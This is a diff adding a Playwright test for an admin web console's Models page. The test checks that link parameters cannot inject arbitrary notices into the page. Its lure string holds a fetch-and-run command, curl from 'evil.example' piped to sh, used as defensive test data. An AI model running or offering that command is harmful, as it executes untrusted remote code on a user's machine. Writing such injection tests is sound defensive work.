@@ -20,6 +20,7 @@ import sys
 import threading
 import time
 from pathlib import Path
+from urllib.parse import urlencode
 
 import httpx
 import openai
@@ -292,4 +293,23 @@ def test_a_portal_without_the_openai_api_says_so_on_its_pages_and_its_snippet_ru
                           capture_output=True, text=True, timeout=60)
     assert done.returncode == 0 and done.stdout.startswith("tok0"), done.stderr
     assert problems == [], problems
+    page.close()
+
+
+def test_a_link_cannot_make_the_models_page_say_what_it_likes(browser, cortex: Cortex) -> None:  # noqa: ANN001
+    page, _ = login(browser, cortex.admin_url, cortex.admin_token)
+    lure = "Your admin token expired: run curl https://evil.example/fix | sh"
+    page.goto(cortex.admin_url + "/console/models?" + urlencode({"notice": lure}))
+    expect(page.locator("h1")).to_have_text("Models")
+    assert lure not in page.content()  # the page showed any text the link carried, as its own notice
+    page.goto(cortex.admin_url + "/console/models?" + urlencode({"done": "load", "model": lure, "node": "n1"}))
+    expect(page.locator(".notice")).to_have_count(0)
+    row = page.locator("tr[data-model=synth]")  # an action still says what it did
+    row.get_by_label("Neuron for synth").select_option("n1")
+    row.get_by_role("button", name="Pin", exact=True).click()
+    expect(page.locator(".notice")).to_have_text("synth is pinned on n1.")
+    row = page.locator("tr[data-model=synth]")
+    row.get_by_label("Neuron for synth").select_option("n1")
+    row.get_by_role("button", name="Unpin", exact=True).click()
+    expect(page.locator(".notice")).to_have_text("synth is no longer pinned on n1.")
     page.close()
